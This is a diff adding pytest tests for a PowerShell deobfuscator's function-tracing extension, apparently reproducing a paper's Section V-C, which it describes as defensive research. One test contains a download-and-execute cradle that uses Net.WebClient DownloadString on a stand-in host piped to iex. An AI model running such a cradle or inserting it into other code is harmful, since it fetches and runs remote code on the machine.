@@ -1,0 +1,73 @@
+"""Tests for the trace_functions extension (paper Section V-C).
+
+The default configuration must FAIL on function-wrapped decoders — that
+is the paper's documented limitation — and the extension must succeed on
+side-effect-free ones.
+"""
+
+import random
+
+import pytest
+
+from repro import Deobfuscator
+from repro.obfuscation.function_wrap import (
+    nested_function_decoder,
+    wrap_function_decoder,
+)
+from repro.runtime.evaluator import Evaluator
+
+PAYLOAD = "write-host function-hidden"
+
+
+class TestPaperLimitation:
+    @pytest.mark.parametrize("seed", [1, 2, 3])
+    def test_default_config_fails(self, seed):
+        obfuscated = wrap_function_decoder(PAYLOAD, random.Random(seed))
+        result = Deobfuscator().deobfuscate(obfuscated)
+        assert "function-hidden" not in result.script.lower()
+
+    def test_sample_still_executes(self):
+        obfuscated = wrap_function_decoder(PAYLOAD, random.Random(1))
+        evaluator = Evaluator(enforce_blocklist=False)
+        evaluator.run_script_text(obfuscated)
+        assert evaluator.host.output == ["function-hidden"]
+
+
+class TestExtension:
+    @pytest.mark.parametrize("seed", [1, 2, 3, 4, 5])
+    def test_trace_functions_recovers(self, seed):
+        obfuscated = wrap_function_decoder(PAYLOAD, random.Random(seed))
+        tool = Deobfuscator(trace_functions=True)
+        result = tool.deobfuscate(obfuscated)
+        assert "write-host function-hidden" in result.script.lower(), (
+            obfuscated
+        )
+
+    def test_nested_functions_recovered(self):
+        obfuscated = nested_function_decoder(PAYLOAD, random.Random(7))
+        tool = Deobfuscator(trace_functions=True)
+        result = tool.deobfuscate(obfuscated)
+        assert "write-host function-hidden" in result.script.lower()
+
+    def test_function_with_blocked_body_not_registered(self):
+        script = (
+            "function Bad-Decode { param($s) start-sleep 99; $s }\n"
+            "iex (Bad-Decode 'write-host x')"
+        )
+        tool = Deobfuscator(trace_functions=True)
+        result = tool.deobfuscate(script)
+        # The body contains a blocklisted command: the definition is not
+        # registered and the call site stays unrecovered.
+        assert "Bad-Decode 'write-host x'" in result.script
+
+    def test_behavior_preserved_with_extension(self):
+        from repro.analysis.behavior import same_network_behavior
+
+        inner = (
+            "(New-Object Net.WebClient)"
+            ".DownloadString('http://fx.test/p')|iex"
+        )
+        obfuscated = wrap_function_decoder(inner, random.Random(9))
+        tool = Deobfuscator(trace_functions=True)
+        result = tool.deobfuscate(obfuscated)
+        assert same_network_behavior(obfuscated, result.script)
